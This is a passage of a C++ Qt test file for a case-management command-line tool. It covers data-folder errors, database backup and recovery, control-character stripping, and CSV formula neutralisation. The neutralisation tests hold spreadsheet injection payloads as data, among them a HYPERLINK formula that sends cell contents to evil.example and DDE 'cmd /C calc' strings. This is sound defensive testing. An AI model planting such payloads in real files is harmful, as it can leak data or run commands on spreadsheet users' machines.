    QCOMPARE(once.err, QStringLiteral("No store in %1.\n").arg(QDir::toNativeSeparators(missing)));
    const Captured statusMissing = runCli({"--data-dir", missing, "sync", "status"});
    QCOMPARE(statusMissing.code, 1);
    QCOMPARE(statusMissing.err, QStringLiteral("No store in %1.\n").arg(QDir::toNativeSeparators(missing)));

    TestStore store;
    QVERIFY(store.ok());
    QVERIFY(store.cases().registerCase(TestStore::sampleCase()).ok());
    const Captured before = runCli({"--data-dir", store.dir(), "sync", "status"});
    const Captured after = runCli({"sync", "status", "--data-dir", store.dir()});
    QCOMPARE(before.code, 0);
    QVERIFY2(before.err.isEmpty(), qPrintable(before.err));
    QCOMPARE(before.out, after.out);
    QVERIFY2(before.out.contains(QLatin1String("pending")), qPrintable(before.out));
    // The same folder twice is fine; two different ones are refused.
    QCOMPARE(runCli({"--data-dir", store.dir(), "sync", "status", "--data-dir", store.dir()}).code, 0);
    const Captured twice = runCli({"--data-dir", store.dir(), "sync", "status", "--data-dir", missing});
    QCOMPARE(twice.code, 2);
    QVERIFY2(twice.err.contains(QLatin1String("--data-dir is given twice")), qPrintable(twice.err));
}

void TestCommands::neutraliseFormula_data()
{
    QTest::addColumn<QString>("cell");
    QTest::addColumn<QString>("written");
    QTest::newRow("hyperlink") << "=HYPERLINK(\"http://x.example\",\"click\")"
                               << "'=HYPERLINK(\"http://x.example\",\"click\")";
    QTest::newRow("plus") << "+SUM(A1:A9)"
                          << "'+SUM(A1:A9)";
    QTest::newRow("minus") << "-2+3+cmd|' /C calc'!A0"
                           << "'-2+3+cmd|' /C calc'!A0";
    QTest::newRow("at") << "@SUM(1)"
                        << "'@SUM(1)";
    QTest::newRow("tab") << "\t=1"
                         << "'\t=1";
    QTest::newRow("carriage return") << "\r=1"
                                     << "'\r=1";
    QTest::newRow("plain text") << "زباله = مانده"
                                << "زباله = مانده";
    QTest::newRow("empty") << ""
                           << "";
    QTest::newRow("negative number") << "-36.500000"
                                     << "-36.500000";
    QTest::newRow("e164") << "+989151234567"
                          << "+989151234567";
    QTest::newRow("dash then text") << "- three days"
                                    << "'- three days";
}

void TestCommands::neutraliseFormula()
{
    QFETCH(QString, cell);
    QFETCH(QString, written);
    QCOMPARE(Ctl::neutraliseFormula(cell), written);
}

void TestCommands::exportNeutralisesFormulas()
{
    TestStore store;
    QVERIFY(store.ok());
    Core::CaseRecord evil = trickyCase();
    evil.description = QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
    evil.location.address = QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0");
    evil.caller.name = QStringLiteral("+cmd");
    QVERIFY(store.cases().registerCase(evil).ok());
    const Captured c = exportToday(store.dir(), true);
    QCOMPARE(c.code, 0);
    const auto records = Storage::Csv::parseRecords(c.out.toUtf8());
    QVERIFY(records.ok());
    QCOMPARE(records.value().size(), 1);
    const auto &row = records.value().at(0);
    QCOMPARE(row.value("description"), QStringLiteral("'") + evil.description);
    QCOMPARE(row.value("address"), QStringLiteral("'") + evil.location.address);
    QCOMPARE(row.value("caller_name"), QStringLiteral("'+cmd"));
    QCOMPARE(row.value("caller_phone"), QStringLiteral("+989357654321")); // a number stays a number
    QCOMPARE(row.value("lat"), QStringLiteral("36.300000"));
    for (const auto &[column, value] : row.asKeyValueRange())
        QVERIFY2(!value.startsWith(QLatin1Char('=')) && !value.startsWith(QLatin1Char('@')),
                 qPrintable(column));
}

void TestCommands::dbBackupNamesTheDestination()
{
    TestStore store;
    QVERIFY(store.ok());
    const QString target = QStringLiteral("/nonexistent-pasokh-dir/sub/x.sqlite");
    const Captured c = runCli({"db", "backup", target, "--data-dir", store.dir()});
    QCOMPARE(c.code, 1);
    QCOMPARE(c.err, QStringLiteral("Cannot write the backup: the destination folder %1 does not exist.\n")
                        .arg(QDir::toNativeSeparators(QStringLiteral("/nonexistent-pasokh-dir/sub"))));
    QVERIFY(!c.err.contains(QLatin1String("data folder")));
    QVERIFY(c.out.isEmpty());
    // No store: exit 4, whatever the destination.
    QTemporaryDir empty;
    const Captured noStore = runCli({"db", "backup", empty.filePath("b.sqlite"), "--data-dir", empty.path()});
    QCOMPARE(noStore.code, int(Ctl::ExitNoStore));
}

void TestCommands::dbRecoverFailureGivesAReasonAndLeavesNoFolder()
{
    QTemporaryDir dir;
    QCOMPARE(runCli({"seed-demo", "--cases", "5", "--data-dir", dir.path()}).code, 0);
    {
        QFile f(Storage::storePath(dir.path()));
        QVERIFY(f.open(QIODevice::ReadWrite));
        f.write(QByteArray(16, '\x5a')); // header gone: nothing can be read
    }
    const Captured c = runCli({"db", "recover", "--data-dir", dir.path()});
    QCOMPARE(c.code, 1);
    QVERIFY2(c.err.startsWith(QLatin1String("db recover failed (recover_failed): ")), qPrintable(c.err));
    QVERIFY2(!c.err.endsWith(QLatin1String(": \n")) && !c.err.endsWith(QLatin1String(":\n")),
             qPrintable(c.err));
    const QString reason = c.err.section(QLatin1String("): "), 1).trimmed();
    QVERIFY2(!reason.section(QLatin1Char(':'), -1).trimmed().isEmpty(), qPrintable(c.err));
    QVERIFY2(!QFileInfo::exists(dir.filePath(QStringLiteral("quarantine"))), "empty quarantine folder left");
    QVERIFY(QFile::exists(Storage::storePath(dir.path()))); // the damaged file is back in its place
}

void TestCommands::normalizeTextStripsControls()
{
    const Captured c =
        runCli({"normalize", "text",
                QStringLiteral("\x1b[31mزباله\x1b]0;title\x07 ") + QChar(0x9b) + QStringLiteral("2J\tکوچه")});
    QCOMPARE(c.code, 0);
    for (const QChar ch : c.out.chopped(1))
        QVERIFY2(ch.unicode() >= 0x20 && !(ch.unicode() >= 0x7f && ch.unicode() <= 0x9f),
                 qPrintable(QString::number(ch.unicode(), 16)));
    QVERIFY(c.out.endsWith(QLatin1Char('\n')));
    QVERIFY2(c.out.contains(QStringLiteral("زباله")), qPrintable(c.out));
}

QTEST_GUILESS_MAIN(TestCommands)
#include "tst_commands.moc"
